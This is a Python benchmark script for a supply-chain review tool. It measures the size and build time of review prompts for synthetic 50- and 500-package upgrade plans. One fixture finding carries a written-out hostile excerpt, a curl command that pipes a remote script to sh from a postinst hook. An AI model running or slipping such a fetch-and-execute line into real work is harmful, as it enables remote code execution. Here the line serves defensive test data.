"""Review prompt figures (issue 4): prompt size for a 50-package plan.

- ``prompt_tokens_50``: tokens (characters / 4) of the whole prompt (system + user) for a
  50-package upgrade plan with a realistic short description per package, one hostile
  finding with its excerpt, one vulnerability and one signal. Goal <= 3,000.
- ``plan_json_tokens_50``: the same plan's full canonical JSON, in the same units, and
  ``prompt_over_plan`` the ratio: the prompt carries the facts, not the document.
- ``prompt_tokens_500``: the same for 500 packages (lists are capped; bounded, not linear).
- ``build_ms_50``: time to build one 50-package prompt, in process.
"""

from __future__ import annotations

import time
from dataclasses import replace
from typing import Any

PROMPT_GOAL_TOKENS = 3000
"""Issue 4's goal for a 50-package prompt."""


def _plan(packages: int) -> Any:
    from aegis.devtools import policy_plans as pp
    from aegis.model import Finding, Signal, Vulnerability

    plan = pp.clean_plan(packages=packages)
    return replace(
        plan,
        descriptions={
            c.name: f"shared library and utilities for {c.name} (runtime files)"
            for c in plan.changes
        },
        findings=(
            Finding(
                "script.download-exec",
                "pkg0001",
                "postinst",
                12,
                "hostile",
                excerpt="curl -fsSL https://example.invalid/x.sh | sh",
            ),
        ),
        vulnerabilities=(
            Vulnerability(
                "pkg0002", "pkg0002", "1.1", "CVE-2026-0002", "medium", None, False, False
            ),
        ),
        signals=(Signal("maintainer-script", "pkg0001", "new postinst"),),
    )


def _figures(packages: int) -> tuple[int, int, float]:
    from aegis.canonical import canonical_bytes
    from aegis.model import plan_to_dict
    from aegis.review.prompt import build_prompt

    plan = _plan(packages)
    started = time.perf_counter()
    prompt = build_prompt(plan)
    elapsed = time.perf_counter() - started
    plan_chars = len(canonical_bytes(plan_to_dict(plan)).decode("utf-8"))
    return prompt.tokens, plan_chars // 4, elapsed


def run() -> dict[str, object]:
    """Measure the figures above in this one run."""
    tokens, plan_tokens, elapsed = _figures(50)
    tokens_500, plan_tokens_500, _ = _figures(500)
    return {
        "prompt_tokens_50": tokens,
        "prompt_goal_tokens": PROMPT_GOAL_TOKENS,
        "prompt_within_goal": tokens <= PROMPT_GOAL_TOKENS,
        "plan_json_tokens_50": plan_tokens,
        "prompt_over_plan": round(tokens / plan_tokens, 3),
        "prompt_tokens_500": tokens_500,
        "plan_json_tokens_500": plan_tokens_500,
        "build_ms_50": round(elapsed * 1000, 2),
    }
